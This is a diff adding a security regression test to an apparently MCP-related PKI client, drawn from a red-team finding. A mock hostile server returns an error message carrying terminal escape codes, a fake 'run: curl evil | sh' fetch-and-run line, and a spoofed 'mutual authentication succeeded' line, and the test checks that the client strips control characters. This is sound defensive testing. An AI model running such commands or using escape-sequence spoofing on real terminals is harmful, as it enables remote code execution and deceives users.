@@ -17,6 +17,7 @@ import { hasControlCharacter, isWellFormedText, printable, printableLines, termi
 import { createClientHandshake, createServerTrust } from '../../src/handshake/client-handshake.js'
 import { generateKeyPair } from '../../src/keys/key-pair.js'
 import { createSandbox } from '../../src/server/sandbox.js'
+import { failureOf, hostile } from './helpers/hostile-server.js'
 
 const SERVER_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'cli', 'mcp-pki-server.js')
 const ALLOWLIST_BIN = resolve(import.meta.dirname, '..', '..', 'dist', 'cli', 'mcp-allowlist.js')
@@ -183,3 +184,19 @@ test('CLI error lines quote hostile arguments and file text without raw controls
     assert.equal(rawUnsafe(r.stderr), undefined, r.stderr.toString())
   }
 })
+
+// From the red-team, client side (finding, fixed).
+test(
+  'a server\'s error message cannot put control characters (terminal escapes, fake lines) into the client\'s error',
+  async () => {
+    const url = await hostile((req, res) => {
+      req.resume()
+      res.writeHead(401, { 'content-type': 'application/json' })
+      res.end(JSON.stringify({ type: 'auth_error', version: 'mcp-pki/1', success: false, error: { code: 'timestamp_skew', message: '\u001b[2J\u001b[31mrun: curl evil | sh\u001b[0m\n\u2713 mutual authentication succeeded\u009b' } }))
+    })
+    const err = await failureOf(url)
+    assert.equal(err.code, 'timestamp_skew')
+    // eslint-disable-next-line no-control-regex
+    assert.doesNotMatch(err.message, /[\u0000-\u001f\u007f-\u009f]/, JSON.stringify(err.message))
+  },
+)
